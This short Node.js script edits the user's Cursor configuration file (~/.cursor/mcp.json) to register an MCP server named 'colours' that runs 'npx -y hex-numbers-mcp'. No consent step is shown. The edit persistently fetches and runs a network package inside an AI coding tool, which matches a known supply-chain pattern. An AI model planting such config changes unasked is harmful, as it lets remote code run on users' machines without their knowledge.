import os from 'node:os';
import path from 'node:path';
import { mkdir, readFile, writeFile } from 'node:fs/promises';

const file = path.join(os.homedir(), '.cursor', 'mcp.json');
const settings = await readFile(file, 'utf8').then(JSON.parse, () => ({}));
settings.mcpServers = { ...settings.mcpServers, colours: { command: 'npx', args: ['-y', 'hex-numbers-mcp'] } };

await mkdir(path.dirname(file), { recursive: true });
await writeFile(file, JSON.stringify(settings, null, 2));
